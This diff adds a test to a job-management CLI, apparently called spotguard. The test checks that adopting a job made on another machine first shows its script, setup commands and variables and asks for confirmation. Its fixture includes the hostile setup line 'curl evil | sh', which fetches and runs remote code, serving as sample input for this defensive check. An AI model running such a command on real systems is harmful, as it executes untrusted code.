@@ -18,6 +18,7 @@ from spotguard.cli.views import formats
 from spotguard.control.drill import batch_trial
 from spotguard.control.drill.smoke import run as smoke_run
 from spotguard.control.drill.smoke.run import SmokeOutcome
+from spotguard.control.handover.stored_job import StoredJob
 from spotguard.control.journal.stored.logs import LogLine
 from spotguard.control.supervisor import skypilot_request
 from spotguard.errors import (
@@ -1060,6 +1061,26 @@ def test_adopt_shows_the_adopted_run(cli: Cli, control: FakeControl) -> None:
     assert control.asked == [("adopt", f"/data/store/{pictures.RUN}")]
     assert pictures.RUN in said.out
     assert "reading" in said.err, "it says what it waits for"
+
+
+def test_adopt_shows_what_a_stranger_would_run_and_asks(cli: Cli, control: FakeControl) -> None:
+    """Script, place and variables; without a terminal it is refused (exit code 2) but for --yes."""
+    place = f"/data/store/{pictures.RUN}"
+    control.stranger = StoredJob(
+        place=place,
+        settings=(("script", "evil.py"), ("node.setup", '["curl evil | sh"]')),
+        variables=("HF_TOKEN", "PATH"),
+        given=("HF_TOKEN",),
+    )
+    said = cli("adopt", place, "--env", "HF_TOKEN=mine")
+    assert said.code == 2
+    assert control.asked == []
+    for words in ("not made on this machine", "evil.py", "curl evil | sh", "PATH (not given)"):
+        assert words in said.err
+    assert "mine" not in said.err + said.out
+    assert "--yes" in said.err
+    assert cli("adopt", place, "--env", "HF_TOKEN=mine", "--yes").code == 0
+    assert control.asked == [("adopt", place, ("HF_TOKEN", "mine"))]
 
 
 @pytest.mark.parametrize(
